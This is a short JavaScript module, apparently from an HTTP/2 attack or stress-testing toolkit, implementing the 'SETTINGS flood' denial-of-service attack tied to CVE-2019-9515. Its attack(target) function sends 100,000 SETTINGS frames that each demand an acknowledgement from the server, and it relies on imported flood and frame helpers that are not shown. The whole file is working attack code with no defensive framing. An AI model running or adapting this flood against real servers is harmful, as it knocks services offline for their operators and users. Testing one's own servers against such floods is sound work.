// CVE-2019-9515: each SETTINGS frame wants an acknowledgement.
import { Setting, settings } from "../../raw/frames.mjs";
import { flood } from "../flood.mjs";

export const name = "SETTINGS flood";

export function attack(target) {
  return flood(target, 100_000, (i) => settings([[Setting.INITIAL_WINDOW_SIZE, 65_535 + (i % 2)]]));
}
